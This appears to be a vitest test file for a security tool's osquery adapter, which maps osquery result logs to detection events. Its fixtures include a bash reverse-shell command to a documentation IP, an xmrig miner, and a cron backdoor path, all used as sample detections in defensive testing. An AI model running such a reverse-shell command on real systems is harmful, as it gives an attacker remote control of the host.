import { describe, expect, it } from 'vitest';
import { adapterHarness } from '../../../test/helpers/adapters.js';
import { DetectionEvent } from '../detection-event.js';
import { calendarTimeToIso, osqueryAdapter } from './osquery.js';

const { ctx, fixture, parse } = adapterHarness(osqueryAdapter, 'osquery');

/** The docs' event-format example, as a detection (counter past the initial run). */
const docsEvent = {
  action: 'added',
  columns: { name: 'osqueryd', path: '/usr/local/bin/osqueryd', pid: '97830' },
  name: 'processes',
  hostIdentifier: 'hostname.local',
  calendarTime: 'Tue Sep 30 17:37:30 2014 UTC',
  unixTime: '1412123850',
  epoch: '314159265',
  counter: '1',
};

describe('osquery adapter', () => {
  it('maps a process_events row of the event format: lineage, user, severity and techniques', () => {
    const doc = fixture('event-added.json');
    const r = parse(doc);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.events).toHaveLength(1);
    const ev = r.events[0]!;
    expect(DetectionEvent.parse(ev)).toEqual(ev);
    expect(ev.id).toBe(ctx.id);
    expect(ev.source).toBe('osquery');
    expect(ev.host).toEqual({ id: 'web-01', name: 'web-01.prod.example.com', addresses: [] });
    // The row's own `time` column wins over the log line's unixTime.
    expect(ev.observedAt).toBe('2026-11-26T09:24:25.000Z');
    expect(ev.process).toMatchObject({
      pid: 48213,
      ppid: 1322,
      executable: '/usr/bin/bash',
      commandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      cwd: '/var/www/html',
      ancestors: [{ pid: 1322, name: 'nginx', executable: '/usr/sbin/nginx' }],
    });
    // auid 4294967295 is "unset", not a login uid.
    expect(ev.user).toEqual({ name: 'www-data', uid: 33 });
    expect(ev.detection).toMatchObject({
      ruleId: 'pack_linux-detections_reverse_shell_T1059_004',
      ruleName: 'reverse_shell_T1059_004 (pack linux-detections)',
      severity: 'high',
      techniques: ['T1059.004', 'T1071'],
      tags: ['osquery:added', 'pack:linux-detections'],
    });
    expect(ev.detection.message).toContain('cmdline=bash -c bash -i');
    expect(ev.raw).toEqual(doc);
  });

  it('gives one event per added row of a batch with ids <id>, <id>.1, and skips the removed rows', () => {
    const doc = fixture('batch.json');
    const r = parse(doc);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.events.map((e) => e.id)).toEqual(['ev_test0000', 'ev_test0000.1']);
    expect(r.skipped).toEqual({ count: 1, reason: 'osquery removed rows are not detections' });
    // The docs spell the host key `hostname`.
    expect(r.events.map((e) => e.host.id)).toEqual(['web-01', 'web-01']);
    expect(r.events.map((e) => e.observedAt)).toEqual([
      '2026-11-26T09:24:26.000Z',
      '2026-11-26T09:25:22.000Z',
    ]);
    const [first, second] = r.events;
    expect(first!.network).toEqual({
      direction: 'outbound',
      protocol: 'tcp',
      localAddress: '10.0.0.5',
      localPort: 51234,
      remoteAddress: '203.0.113.7',
      remotePort: 4444,
    });
    expect(first!.process).toMatchObject({ pid: 48213, executable: '/usr/bin/bash', user: { loginUid: 33 } });
    expect(second!.process?.executable).toBe('/usr/bin/curl');
    expect(second!.network?.remoteAddress).toBe('198.51.100.23');
    // Each row's raw is the row as received, in the event-format document osquery would have logged.
    expect(second!.raw).toEqual({
      name: 'pack_incident-response_outbound_connections',
      hostname: 'web-01',
      calendarTime: 'Thu Nov 26 09:26:20 2026 UTC',
      unixTime: '1795685180',
      epoch: '0',
      counter: '3',
      action: 'added',
      columns: (doc.diffResults as { added: unknown[] }).added[1],
    });
  });

  it('treats every snapshot row as a detection and reads calendarTime when unixTime is absent', () => {
    const r = parse(fixture('snapshot.json'));
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.skipped).toBeUndefined();
    expect(r.events.map((e) => e.id)).toEqual(['ev_test0000', 'ev_test0000.1']);
    // "Mon May  2 22:27:32 2016 UTC": the docs' double space before a one-digit day.
    expect(r.events[0]!.observedAt).toBe('2016-05-02T22:27:32.000Z');
    expect(r.events[1]!.process).toMatchObject({
      pid: 5133,
      ppid: 5121,
      name: 'xmrig',
      executable: '/tmp/.x/xmrig',
      ancestors: [{ pid: 5121 }],
    });
    expect(r.events[1]!.detection).toMatchObject({
      ruleId: 'deleted_binaries_running',
      ruleName: 'deleted_binaries_running',
      severity: 'medium',
      tags: ['osquery:snapshot'],
    });
    expect(r.events[1]!.raw).toMatchObject({ action: 'snapshot', columns: { pid: '5133' } });
  });

  it('treats counter 0 as the initial state, not alerts', () => {
    expect(parse(fixture('counter-0.json'))).toEqual({
      ok: true,
      events: [],
      skipped: { count: 1, reason: 'osquery initial result set (counter 0)' },
    });
    // A batch of the initial run (numeric counter, as newer osqueryd writes it): all rows are state.
    const batch = fixture('batch.json');
    expect(parse({ ...batch, counter: 0 })).toEqual({
      ok: true,
      events: [],
      skipped: { count: 3, reason: 'osquery initial result set (counter 0)' },
    });
  });

  it('does not apply the counter rule to snapshots, which are always full result sets', () => {
    const r = parse({ ...fixture('snapshot.json'), counter: '0' });
    expect(r.ok && r.events.length).toBe(2);
  });

  it('skips removed rows: a removed event and a removed-only batch have no events', () => {
    expect(parse(fixture('removed-only.json'))).toEqual({
      ok: true,
      events: [],
      skipped: { count: 2, reason: 'osquery removed rows are not detections' },
    });
    expect(parse({ ...docsEvent, action: 'removed' })).toEqual({
      ok: true,
      events: [],
      skipped: { count: 1, reason: 'osquery removed rows are not detections' },
    });
  });

  it("accepts the docs' own event example: string values, calendarTime, unixTime", () => {
    const r = parse(docsEvent);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.events[0]!.observedAt).toBe('2014-10-01T00:37:30.000Z');
    expect(r.events[0]!.process).toMatchObject({
      pid: 97830,
      name: 'osqueryd',
      executable: '/usr/local/bin/osqueryd',
    });
    expect(r.events[0]!.detection).toMatchObject({
      ruleId: 'processes',
      ruleName: 'processes',
      severity: 'medium',
    });
  });

  it('reads numeric values (--logger_numerics), decorations for severity and ATT&CK, and the host uuid', () => {
    const r = parse({
      ...docsEvent,
      name: 'pack/persistence/cron_T1053.003',
      hostIdentifier: '4AB2906D-5516-5794-AF54-86D1D7F533F3',
      unixTime: 1412123850,
      counter: 5,
      numerics: true,
      decorations: {
        vigil_severity: 'Critical',
        mitre_technique: 'T1053 t1543.002',
        tactics: 'Persistence, Privilege Escalation',
      },
      columns: { pid: 4242, name: 'cron', path: '/usr/sbin/cron', uid: 0 },
    });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const ev = r.events[0]!;
    // A uuid host identifier is the id, not a name.
    expect(ev.host).toEqual({ id: '4AB2906D-5516-5794-AF54-86D1D7F533F3', addresses: [] });
    expect(ev.process).toMatchObject({ pid: 4242, user: { uid: 0 } });
    expect(ev.detection).toMatchObject({
      ruleId: 'pack/persistence/cron_T1053.003',
      ruleName: 'cron_T1053.003 (pack persistence)',
      severity: 'critical',
      techniques: ['T1053', 'T1543.002', 'T1053.003'],
      tactics: ['Persistence', 'Privilege Escalation'],
    });
  });

  it('prefers a column severity to a decoration and ignores unknown words', () => {
    const withSev = (columns: Record<string, string>, decorations: Record<string, string>) => {
      const r = parse({ ...docsEvent, columns: { ...docsEvent.columns, ...columns }, decorations });
      return r.ok ? r.events[0]!.detection.severity : r.issues;
    };
    expect(withSev({ severity: 'low' }, { severity: 'high' })).toBe('low');
    expect(withSev({}, { severity: 'high' })).toBe('high');
    expect(withSev({ vigil_severity: 'info', severity: 'critical' }, {})).toBe('info');
    expect(withSev({ severity: '7' }, {})).toBe('medium');
  });

  it('maps a file_events row to the file and its hash, not to a process', () => {
    const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    const r = parse({
      ...docsEvent,
      name: 'pack_fim_etc_changes',
      columns: {
        target_path: '/etc/cron.d/backdoor',
        category: 'etc',
        action: 'CREATED',
        sha256: sha.toUpperCase(),
        uid: '0',
        time: '1795685067',
      },
    });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.events[0]!.file).toEqual({ path: '/etc/cron.d/backdoor', sha256: sha });
    expect(r.events[0]!.process).toBeUndefined();
    expect(r.events[0]!.user).toEqual({ uid: 0 });
    expect(r.events[0]!.observedAt).toBe('2026-11-26T09:24:27.000Z');
  });

  it('maps process_file_events: `executable` is the process, `path` the file', () => {
    const r = parse({
      ...docsEvent,
      columns: { operation: 'write', pid: '900', ppid: '1', executable: '/usr/bin/vi', path: '/etc/passwd' },
    });
    expect(r.ok && r.events[0]!.process).toMatchObject({ pid: 900, ppid: 1, executable: '/usr/bin/vi' });
    expect(r.ok && r.events[0]!.file).toEqual({ path: '/etc/passwd' });
  });

  it('maps listening_ports rows as an inbound local listener', () => {
    const r = parse({
      ...docsEvent,
      columns: { pid: '2211', port: '31337', protocol: '6', family: '2', address: '0.0.0.0' },
    });
    expect(r.ok && r.events[0]!.network).toEqual({
      direction: 'inbound',
      protocol: 'tcp',
      localAddress: '0.0.0.0',
      localPort: 31337,
    });
  });

  it('reports an empty batch as skipped, not as an error', () => {
    expect(parse({ ...docsEvent, action: undefined, columns: undefined, diffResults: {} })).toEqual({
      ok: true,
      events: [],
      skipped: { count: 0, reason: 'osquery result with no rows' },
    });
  });

  it('parses calendarTime with and without the UTC suffix', () => {
    expect(calendarTimeToIso('Tue Sep 30 17:37:30 2014 UTC')).toBe('2014-09-30T17:37:30.000Z');
    expect(calendarTimeToIso('Tue Sep 30 17:37:30 2014')).toBe('2014-09-30T17:37:30.000Z');
    expect(calendarTimeToIso('Mon May  2 22:27:32 2016 UTC')).toBe('2016-05-02T22:27:32.000Z');
    expect(calendarTimeToIso('2014-09-30 17:37:30')).toBeUndefined();
    expect(calendarTimeToIso('Tue Foo 30 17:37:30 2014 UTC')).toBeUndefined();
  });

  it.each([
    [fixture('malformed.json'), 'name'],
    [fixture('malformed.json'), 'columns'],
    [{}, '(root): not an osquery result'],
    [{ ...docsEvent, action: 'changed' }, 'action'],
    [{ ...docsEvent, hostIdentifier: undefined }, 'hostIdentifier'],
    [{ ...docsEvent, unixTime: 'soon', calendarTime: 'yesterday' }, 'unixTime'],
    [{ ...docsEvent, name: '' }, 'name'],
    [{ ...docsEvent, name: 'q'.repeat(513) }, 'name'],
    [{ ...docsEvent, decorations: 'host=web-01' }, 'decorations'],
    [
      { ...docsEvent, action: undefined, columns: undefined, diffResults: { added: 'pid=1' } },
      'diffResults.added',
    ],
    [
      { ...docsEvent, action: undefined, columns: undefined, diffResults: { added: [1] } },
      'diffResults.added.0',
    ],
    [{ ...docsEvent, action: 'snapshot', columns: undefined, snapshot: { pid: '1' } }, 'snapshot'],
    [{ ...docsEvent, counter: { n: 1 } }, 'counter'],
    [[1, 2], '(root)'],
    ['a string', '(root)'],
  ])('refuses %j and names the problem (%s)', (input, path) => {
    const r = parse(input);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.issues.join('\n')).toContain(path);
  });
});
